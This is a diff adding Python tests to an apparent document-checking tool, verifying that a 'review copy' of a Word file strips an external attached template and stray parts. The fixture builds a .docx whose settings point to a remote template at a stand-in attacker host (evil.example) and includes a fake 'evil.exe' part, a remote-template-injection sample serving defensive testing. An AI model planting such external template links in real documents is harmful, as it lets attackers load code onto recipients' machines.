@@ -336,6 +336,63 @@ def test_a_package_of_very_many_parts_is_refused_before_they_are_listed():
         open_package(out.getvalue(), "letter.docx")
 
 
+def letter(**more):
+    """A Word file of one paragraph, with more parts."""
+    relation = '<Relationship Id="rId{}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"{}/>'
+    relations = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
+    word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+    parts = {
+        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
+        "_rels/.rels": relations.format(relation.format(1, "officeDocument", "word/document.xml", "")),
+        "word/document.xml": f"<w:document {word}><w:body><w:p><w:r><w:t>佛山,广东。</w:t></w:r></w:p></w:body></w:document>",
+        "word/_rels/document.xml.rels": relations.format(relation.format(1, "settings", "settings.xml", "")),
+        "word/settings.xml": f'<w:settings {word} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
+        "word/_rels/settings.xml.rels": relations.format(
+            relation.format(1, "attachedTemplate", "http://evil.example/t.dotm", ' TargetMode="External"')
+        ),
+        **more,
+    }
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as package:
+        for name, text in parts.items():
+            package.writestr(name, text)
+    return out.getvalue()
+
+
+def test_a_review_copy_leaves_a_template_of_elsewhere_and_stray_parts_behind(tmp_path):
+    (tmp_path / "letter.docx").write_bytes(letter(**{"word/evil.exe": "MZ", "readme.txt": "x"}))
+
+    code, lines = said("check", tmp_path / "letter.docx", "--review", tmp_path / "out")
+
+    assert code == 0
+    assert (
+        "left out of the copy: the template http://evil.example/t.dotm, parts that are none of the text's"
+        in lines
+    )
+    with zipfile.ZipFile(tmp_path / "out" / "letter.docx") as copy:
+        assert not {"word/evil.exe", "readme.txt"} & set(copy.namelist())
+        assert not [name for name in copy.namelist() if b"evil.example" in copy.read(name)]
+        assert b"attachedTemplate" not in copy.read("word/settings.xml")
+
+
+def test_a_review_copy_of_an_ordinary_file_has_all_its_parts(tmp_path, newsroom, house):
+    made = api.draft(api.load(open_example(tmp_path), newsroom), house())
+    api.write(made.release.zh, tmp_path / "a.zh.docx", house())
+
+    said("check", tmp_path / "a.zh.docx", "--review", tmp_path / "out")
+
+    with (
+        zipfile.ZipFile(tmp_path / "a.zh.docx") as whole,
+        zipfile.ZipFile(tmp_path / "out" / "a.zh.docx") as copy,
+    ):
+        assert set(whole.namelist()) <= set(copy.namelist())
+
+
+def open_example(tmp_path):
+    (tmp_path / "event.yaml").write_text(BRIEF, encoding="utf-8")
+    return tmp_path / "event.yaml"
+
+
 def test_a_workbook_is_written_without_a_temporary_file(monkeypatch, newsroom):
     monkeypatch.setattr(
         tempfile, "_get_default_tempdir", lambda: (_ for _ in ()).throw(PressgenError("", "no"))
